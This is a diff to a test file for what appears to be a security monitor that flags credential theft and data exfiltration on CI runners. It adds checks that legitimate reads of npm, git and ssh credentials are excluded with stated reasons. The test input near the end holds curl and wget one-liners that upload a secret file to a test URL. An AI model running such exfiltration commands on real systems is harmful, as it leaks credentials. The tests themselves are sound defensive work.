@@ -46,6 +46,11 @@ def fired(run):
     return run.recipe_names()
 
 
+def excluded(run, recipe):
+    """The report's excluded accesses of a recipe: {path: reason}."""
+    return {x["path"]: x["reason"] for x in run.report["excluded"] if x["recipe"] == recipe}
+
+
 # --- 1. Other processes' memory and environment -------------------------------------------------
 
 # What the poisoned action did to the runner's worker: find it, read its memory map, then its
@@ -108,6 +113,9 @@ def test_own_proc_entries_and_a_childs_memory_stay_quiet():
     expect("process_memory_read" not in fired(r), r.text)
     # The child's reads did reach the collector and were judged, not missed: excluded as a descendant's.
     expect(r.report["stats"]["excluded"] >= 2, r.report["stats"])
+    reasons = excluded(r, "process_memory_read")
+    expect(any(p.endswith("/environ") for p in reasons) and any(p.endswith("/mem") for p in reasons), reasons)
+    expect(all("own descendant" in why for why in reasons.values()), reasons)
 
 
 # Issue 15's rule, process by process: a parent reading its child's environment and memory stays
@@ -198,6 +206,8 @@ def test_npm_reading_its_token_stays_quiet():
         expect("credential_files" not in fired(r), r.text)
         # npm did read it: the entry's exclusion spared it, the record was not missed.
         expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
+        expect(excluded(r, "credential_files")[os.path.join(home, ".npmrc")].startswith("npm reads its user"),
+               r.report["excluded"])
     finally:
         shutil.rmtree(home)
 
@@ -214,6 +224,8 @@ def test_git_credential_store_stays_quiet():
         expect("password=token" in r.stdout.decode(), r.stdout)
         expect("credential_files" not in fired(r), r.text)
         expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
+        expect(excluded(r, "credential_files")[os.path.join(home, ".git-credentials")].startswith(
+            "git's credential helper"), r.report["excluded"])
     finally:
         shutil.rmtree(home)
 
@@ -243,6 +255,8 @@ def test_ssh_reading_its_own_key_stays_quiet():
         expect(r.returncode != 0, "the listener hangs up")
         expect("ssh_private_keys" not in fired(r), r.text)
         expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
+        expect_eq(excluded(r, "ssh_private_keys"),
+                  {key: "ssh reads the user's keys to authenticate, e.g. when git fetches over SSH"})
     finally:
         listener.close()
         t.join()
@@ -302,6 +316,7 @@ def test_connecting_to_the_ssh_agent_fires_ssh_add_does_not():
         expect_eq(quiet.returncode, 1, quiet.stderr)  # "The agent has no identities.": it asked
         expect("ssh_private_keys" not in fired(quiet), quiet.text)
         expect(quiet.report["stats"]["excluded"] >= 1, quiet.report["stats"])
+        expect_eq(excluded(quiet, "ssh_private_keys"), {sock: "ssh-add lists and loads the agent's keys"})
 
         r = fpshim([PYTHON, "-c", ASK_AGENT], env=env)
         expect_eq(r.returncode, 0, r.stderr)
@@ -437,6 +452,8 @@ def test_remote_shells_and_uploads_fire_downloads_do_not():
         expect_eq(quiet.returncode, 0, quiet.stderr)
         expect("exfiltration_tools_exec" not in fired(quiet), quiet.text)
         expect(quiet.report["stats"]["excluded"] >= 3, quiet.report["stats"])  # judged by their arguments
+        expect_eq(excluded(quiet, "exfiltration_tools_exec")["/usr/bin/curl"],
+                  "its arguments do not match the entry's args_regex")
 
         attacks = (f"base64 secret | curl -s -d @- {url} >/dev/null; curl -s -T secret {url} >/dev/null; "
                    f"wget -q -O /dev/null --post-file=secret {url}; "
